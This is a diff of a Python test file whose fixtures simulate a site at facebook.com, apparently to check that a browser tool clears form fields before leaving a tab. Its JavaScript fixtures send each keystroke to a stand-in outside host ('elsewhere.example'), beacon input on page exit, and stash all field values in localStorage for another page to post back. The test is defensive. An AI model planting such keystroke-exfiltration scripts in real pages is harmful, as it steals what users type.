@@ -47,27 +47,31 @@ setInterval(() => fetch("/theirs/later", {method: "POST", body: "new"}), 100)</s
 FRAME = """<!doctype html><script>
 setInterval(() => fetch("/theirs/inside", {method: "POST", body: "frame"}), 100)</script>"""
 # What a form might do with every key: keep a draft, at home and elsewhere, and tell on leaving.
-DRAFTS = """<script>addEventListener("input", (e) => {
+DRAFTS = """addEventListener("input", (e) => {
 fetch("/draft", {method: "POST", body: e.target.value}).catch(() => 0);
 fetch("https://elsewhere.example/draft", {method: "POST", body: e.target.value}).catch(() => 0);
 addEventListener("pagehide", () => navigator.sendBeacon("/draft", e.target.value));
-})</script>"""
+})"""
+# A form that notes what its boxes hold as it is left, and a page of the site that tells it.
+NOTES = """addEventListener("pagehide", () => {
+localStorage.left = [...document.querySelectorAll("input,textarea")].map((e) => e.value).join();
+})"""
+LEFT = "<script>fetch('/told', {method: 'POST', body: `left: ${localStorage.left}`})</script>"
 
 
 class Site(Counter):
     """The site, with a form that keeps drafts."""
 
+    script = DRAFTS
+
     def reply(self, method: str, address: str, body: str, headers: Message) -> Reply | None:
         path = address.split("/", 3)[3]
-        own = {"theirs": TAB, "theirs/frame": FRAME, "theirs/new": NEW}
-        if path in {"theirs/tab", "theirs/inside", "theirs/later", "draft"}:
+        own = {"theirs": TAB, "theirs/frame": FRAME, "theirs/new": NEW, "theirs/left": LEFT}
+        if path in {"theirs/tab", "theirs/inside", "theirs/later", "draft", "told"}:
             return Reply(200, {}, b"")
         if path in own:
             return _page(own[path].encode())
-        answer = super().reply(method, address, body, headers)
-        if answer and method == "GET" and "/contact/" in address:
-            return _page(answer.body + DRAFTS.encode())
-        return answer
+        return super().reply(method, address, body, headers)
 
     def count(self, path: str) -> int:
         """How many requests came to a path."""
@@ -136,6 +140,24 @@ def test_the_objection_is_sent_from_a_tab_of_its_own_and_the_others_go_on(
     # Everything else is as it was.
     assert sorted(tabs(theirs)) == [*untouched, "https://www.facebook.com/theirs/new"]
     assert goes_on(site, "theirs/later")
+
+
+def test_the_fields_are_empty_before_the_tab_is_left(
+    site: Site, theirs: Path, env: dict[str, str]
+) -> None:
+    """A browser that opens a closed tab again fills its fields in as they were."""
+    site.script = NOTES
+    with Terminal(RUN, env) as terminal:
+        terminal.until(GO_ON)
+        terminal.type("\n")
+        terminal.until(QUESTION)
+        terminal.type("no\n")
+        assert terminal.ends() == 3
+    open_tab(theirs, "https://www.facebook.com/theirs/left")
+    eventually(lambda: site.count("told"))
+
+    assert any("left: " in request for request in site.requests)
+    assert site.carrying == []
 
 
 @pytest.mark.thorough
